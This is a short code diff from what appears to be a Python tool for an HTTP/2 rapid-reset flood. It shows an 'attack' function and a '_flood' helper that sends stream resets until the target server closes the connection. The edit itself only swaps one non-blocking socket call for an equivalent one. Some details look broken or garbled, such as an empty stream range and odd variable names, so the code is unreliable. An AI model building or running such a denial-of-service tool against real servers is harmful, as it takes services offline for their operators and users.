@@ -82,7 +82,7 @@ def attack(address: str, again_per_s: int, duration_s: float) -> dict[str, float
 
 def _flood(own: socket.socket, block: bytes, ends_s: float, sent: int) -> int:
     """Send resets at their rate until the server closes the connection; return the number of all sent so far."""
-    own.setblocking(False)
+    own.settimeout(0)
     rest, streams = frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0), range(1, 1, 2)
     at_once = int(_RESETS_PER_S * _TICK_S)
     while (now_s := time.monotonic()) < ends_s:
